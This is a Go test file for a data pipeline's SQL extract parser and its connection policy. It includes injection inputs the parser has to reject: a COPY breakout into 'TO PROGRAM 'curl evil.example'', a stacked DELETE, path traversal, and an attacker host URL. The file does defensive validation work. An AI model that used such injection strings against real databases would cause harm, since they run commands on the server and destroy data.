package pipeline_test

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"drawbridge/internal/fault"
	"drawbridge/internal/pipeline"
)

const extractStep = "  - extract: {name: customers, sql: customers.sql}\n"

// extracting is the shop whose orders join what an extract reads.
func extracting(step, sql string) map[string][]byte {
	files := shopFolder()
	files["pipeline.yaml"] = []byte(strings.Replace(shop, "outputs:", step+"outputs:", 1))
	files["fct_orders.sql"] = append(files["fct_orders.sql"], " AND customer IN (SELECT id FROM customers)"...)
	files["customers.sql"] = []byte(sql)
	return files
}

func TestAnExtractIsALoadWithoutAFile(t *testing.T) {
	t.Parallel()
	p, err := pipeline.Parse(extracting(extractStep, "SELECT id FROM crm.customer;"), "config.dev.yaml")
	require.NoError(t, err)
	require.Equal(t, pipeline.Load{
		Name: "customers", File: "customers.sql at source_db",
		Extract: &pipeline.Extract{From: "source_db", SQLFile: "customers.sql", SQL: "SELECT id FROM crm.customer;", Timeout: 10 * time.Minute},
	}, p.Loads[2])
	require.False(t, p.Loads[2].Partitioned(), "it is read once for all partitions")
	require.Equal(t, p.Loads[:2], p.FileLoads())
	require.Equal(t, p.Loads[2:], p.Extracts())

	p, err = pipeline.Parse(extracting("  - extract: {name: customers, from: crm, sql: ./customers.sql, timeout: 2h, columns: {id: bigint}}\n",
		"SELECT id FROM crm.customer WHERE since < @partition_end"), "config.dev.yaml")
	require.NoError(t, err)
	require.True(t, p.Loads[2].Partitioned())
	require.Equal(t, "crm", p.Loads[2].Extract.From)
	require.Equal(t, 2*time.Hour, p.Loads[2].Extract.Timeout)
	require.Equal(t, []pipeline.Column{{Name: "id", Type: "bigint"}}, p.Loads[2].Columns)
}

func TestAnExtractThatCannotWorkIsRefused(t *testing.T) {
	t.Parallel()
	const good = "SELECT id FROM crm.customer"
	for name, tc := range map[string]struct{ step, sql, want string }{
		"two statements":              {extractStep, good + "; DELETE FROM crm.customer", "customers.sql:1:30: a second statement begins"},
		"a change":                    {extractStep, "DELETE FROM crm.customer RETURNING id", "customers.sql:1:1: the file is one SELECT"},
		"a change in a WITH":          {extractStep, "WITH x AS (DELETE FROM crm.customer RETURNING id) SELECT id FROM x", "the SQL only reads"},
		"a way out of the COPY":       {extractStep, good + ") TO PROGRAM 'curl evil.example'; --", "the parenthesis closes nothing"},
		"a way out behind a string":   {extractStep, "SELECT ')' AS id) TO PROGRAM 'x' --", "the parenthesis closes nothing"},
		"a quote that does not end":   {extractStep, "SELECT 'x AS id FROM crm.customer", "does not end"},
		"a parameter":                 {extractStep, good + " WHERE id = $1", "is numbered by Drawbridge"},
		"an unknown placeholder":      {extractStep, good + " WHERE d > @partition_stat", "did you mean partition_start?"},
		"no SQL":                      {extractStep, "-- nothing\n", "the file holds no SQL"},
		"a file that is not there":    {"  - extract: {name: customers, sql: customer.sql}\n", good, "there is no file customer.sql; did you mean customers.sql?"},
		"a file outside":              {"  - extract: {name: customers, sql: ../customers.sql}\n", good, "the path leaves the folder"},
		"a name that a load has":      {"  - extract: {name: raw_orders, sql: customers.sql}\n", good, "another load is named raw_orders"},
		"a name of the server's":      {"  - extract: {name: pg_customers, sql: customers.sql}\n", good, "is a name of the server's own"},
		"a name that nobody reads":    {"  - extract: {name: custmers, sql: customers.sql}\n", good, "no output reads custmers; remove the extract"},
		"a URL in the place of from":  {"  - extract: {name: customers, from: 'postgres://u:p@h/d', sql: customers.sql}\n", good, "steps[2].extract.from: must be a lower-case identifier"},
		"no time":                     {"  - extract: {name: customers, sql: customers.sql, timeout: 0s}\n", good, "timeout"},
		"a batch of what has a bound": {extractStep, good + " WHERE since < @partition_end", "customers is read partition by partition"},
	} {
		files := extracting(tc.step, tc.sql)
		if name == "a batch of what has a bound" {
			files["pipeline.yaml"] = []byte(strings.NewReplacer("column: order_date}", "column: order_date, batch: 7}", `"orders_@partition.csv"`, "orders.csv").Replace(string(files["pipeline.yaml"])))
		}
		_, err := pipeline.Parse(files, "")
		require.ErrorContains(t, err, tc.want, name)
	}
	files := extracting(extractStep, good+" WHERE since < @partition_end")
	files["dim_channel.sql"] = []byte("SELECT DISTINCT channel FROM raw_channels, customers")
	_, err := pipeline.Parse(files, "")
	require.ErrorContains(t, err, "customers that it reads is read partition by partition")
}

// Whatever a config or a pipeline names, it is read only where the policy says so.
func TestAnExtractReadsOnlyWhatThePolicyAllows(t *testing.T) {
	t.Parallel()
	policy, err := pipeline.ParsePolicy("policy.dev.yaml", []byte(`connections:
  warehouse: {url: "postgres://runner@db/warehouse"}
  crm: {url: "postgres://reader@crm.internal/shop", password: "${file:/run/secrets/pw}", use: [source], schemas: {read: [crm]}}
  both: {url: "${env:BOTH}", use: [source, warehouse]}
`))
	require.NoError(t, err)
	named := func(from, sourceDB string) (string, error) {
		return policy.SourceName(pipeline.Config{Environment: "dev", SourceDB: sourceDB}, from)
	}
	for _, c := range []struct{ from, config, want string }{
		{"source_db", "crm", "crm"}, {"source_db", "both", "both"}, {"source_db", "postgres://crm.internal:5432/shop", "crm"}, {"crm", "", "crm"}, {"both", "crm", "both"},
	} {
		got, err := named(c.from, c.config)
		require.NoError(t, err)
		require.Equal(t, c.want, got)
	}
	_, err = named("source_db", "")
	require.Equal(t, fault.Invalid, fault.ClassOf(err))
	require.Contains(t, fault.HintOf(err), "add source_db to config.dev.yaml")
	for _, c := range []struct{ from, config, says string }{
		{"source_db", "warehouse", "lets no extract read over this connection"},
		{"warehouse", "crm", "lets no extract read over this connection"},
		{"source_db", "prod", "has no such connection"},
		{"source_db", "postgres://reader@evil.example/shop", "has no such connection"},
		{"source_db", "postgres://reader@crm.internal/other", "has no such connection"},
		{"billing", "crm", "has no such connection"},
	} {
		_, err := named(c.from, c.config)
		require.Equal(t, fault.Refused, fault.ClassOf(err), c)
		require.ErrorContains(t, err, c.says)
		require.NotContains(t, err.Error(), "evil")
	}
	_, err = policy.ConnectionName(pipeline.Config{Environment: "dev", Warehouse: "crm", WarehouseSchema: "shop"})
	require.Equal(t, fault.Refused, fault.ClassOf(err), "what is only read is nobody's warehouse")
	require.Contains(t, fault.HintOf(err), "write warehouse: both or warehouse")
	_, err = policy.ConnectionName(pipeline.Config{Environment: "dev", Warehouse: "both", WarehouseSchema: "shop"})
	require.NoError(t, err)
	_, err = pipeline.ParsePolicy("policy.dev.yaml", []byte("connections: {crm: {url: 'postgres://r@crm/shop', use: [source], schemas: {write: [shop]}}}"))
	require.ErrorContains(t, err, "nothing is written over a connection that is no warehouse")
}

// One database may have a login that builds there, and another one that only reads.
func TestAURLMeansTheConnectionThatIsForTheUse(t *testing.T) {
	t.Parallel()
	policy, err := pipeline.ParsePolicy("policy.dev.yaml", []byte(`connections:
  a_reader: {url: "postgres://reader@db/shop", use: [source]}
  b_runner: {url: "postgres://runner@db/shop"}
  c_reader: {url: "postgres://second@db/shop", use: [source]}
`))
	require.NoError(t, err)
	config := pipeline.Config{Environment: "dev", Warehouse: "postgres://db/shop", WarehouseSchema: "shop", SourceDB: "postgres://db:5432/shop"}
	name, err := policy.ConnectionName(config)
	require.NoError(t, err)
	require.Equal(t, "b_runner", name)
	name, err = policy.SourceName(config, pipeline.SourceDB)
	require.NoError(t, err)
	require.Equal(t, "a_reader", name)
	config.SourceDB = "postgres://runner@db/shop"
	_, err = policy.SourceName(config, pipeline.SourceDB)
	require.ErrorContains(t, err, "lets no extract read over this connection")
}

// A config says where its source is as it says where its warehouse is, and holds no credential.
func TestSourceDBHoldsNoCredential(t *testing.T) {
	t.Parallel()
	for _, source := range []string{"postgres://u:hunter2@db/x", "${env:SECRET}", "host=db password=hunter2", "postgres://u@db/x?passfile=/x"} {
		_, err := pipeline.ParseConfig("config.dev.yaml", []byte("warehouse_schema: shop\nsource_db: '"+source+"'\n"))
		require.ErrorContains(t, err, "config.dev.yaml:2:12: source_db: ", source)
		require.NotContains(t, err.Error()+fault.HintOf(err), "hunter2")
	}
}
